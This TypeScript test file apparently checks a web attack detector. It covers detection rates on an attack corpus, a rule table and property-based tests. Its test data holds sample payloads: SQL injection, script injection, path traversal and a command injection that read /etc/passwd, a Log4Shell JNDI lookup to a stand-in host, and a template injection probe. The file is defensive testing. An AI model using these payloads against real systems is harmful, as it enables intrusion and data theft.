import fc from 'fast-check';
import { createAnalysisEngine } from '@/runtime/analyzer/engine';
import { InspectedValue, PROTOCOL_RULES, RULE_PACKS, inspectValue } from '@/runtime/analyzer/engine/detection';

/** The rules a value matches as a query parameter. */
const matchValue = (value: string) => inspectValue(new InspectedValue('query', 'q', value));
const ALL_ATTACK_RULES = [...RULE_PACKS.flatMap((p) => p.rules), ...PROTOCOL_RULES];
import { corpusClasses, loadCorpus, scoreCorpus } from '@/test/fixtures/attack-corpus';

const context = { sensorId: 'sensor-1', sensorTags: [] };

function classifier(): (exchange: Parameters<ReturnType<typeof createAnalysisEngine>['analyze']>[0]) => string[] {
  const engine = createAnalysisEngine();
  return (exchange) => [
    ...new Set(engine.analyze(exchange, context).flatMap((e) => (e.msg_type === 'MatchEvent' ? e.matches.map((m) => m.classification) : []))),
  ];
}

describe('attack detection on the corpus', () => {
  const score = scoreCorpus(loadCorpus(), classifier());

  it('covers every class the issue names', () => {
    expect(corpusClasses()).toEqual(
      expect.arrayContaining(['SqlInjection', 'Xss', 'PathTraversal', 'CommandInjection', 'Ssrf', 'Xxe', 'TemplateInjection', 'Log4Shell']),
    );
  });

  it('detects at least 95% of attacks overall and 90% in every class', () => {
    expect(score.detectionRate).toBeGreaterThanOrEqual(0.95);
    for (const [cls, rate] of Object.entries(score.perClass)) expect({ cls, ok: rate >= 0.9 }).toEqual({ cls, ok: true });
  });

  it('flags at most 2% of hard benign values', () => {
    expect(score.falsePositiveRate).toBeLessThanOrEqual(0.02);
  });
});

describe('rule table', () => {
  it('gives every rule a unique id, a risk in 0..100 and a description', () => {
    const ids = ALL_ATTACK_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of ALL_ATTACK_RULES) {
      expect({ id: rule.id, ok: rule.risk >= 0 && rule.risk <= 100 && rule.description.length > 10 }).toEqual({ id: rule.id, ok: true });
    }
  });
});

describe('detector properties', () => {
  const alphanumeric = fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 '.split('')) });

  it('plain words and numbers never match (outside SQL keyword sequences)', () => {
    fc.assert(
      fc.property(
        alphanumeric.filter((s) => !/union|having|order\s+by|^\s*(?:-?\d+\s+)?(?:or|and|xor|order)\s/i.test(s)),
        (s) => matchValue(s).length === 0,
      ),
    );
  });

  it('a payload is found wherever it sits in surrounding text, and however it is URL-encoded', () => {
    const payloads: Array<[string, string]> = [
      ["' OR '1'='1", 'SqlInjection'],
      ['<script>alert(1)</script>', 'Xss'],
      ['../../../etc/passwd', 'PathTraversal'],
      ['; cat /etc/passwd', 'CommandInjection'],
      ['${jndi:ldap://x.example/a}', 'Log4Shell'],
      ['{{7*7}}', 'TemplateInjection'],
    ];
    fc.assert(
      fc.property(fc.constantFrom(...payloads), alphanumeric, alphanumeric, fc.integer({ min: 0, max: 2 }), ([payload, cls], before, after, rounds) => {
        let value = `${before}${payload}${after}`;
        for (let i = 0; i < rounds; i++) value = encodeURIComponent(value);
        return matchValue(value).some((r) => r.classification === cls);
      }),
    );
  });

  it('never throws on arbitrary input', () => {
    fc.assert(fc.property(fc.string({ maxLength: 2000 }), (s) => Array.isArray(matchValue(s))));
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom('<', '>', "'", '"', '%', '$', '{', '}', '(', ')', ';', '|', '&', '\\', 'u', '0', 'a', '/', '.', '#', '-', '*', '='),
        }),
        (s) => Array.isArray(matchValue(s)),
      ),
    );
  });
});
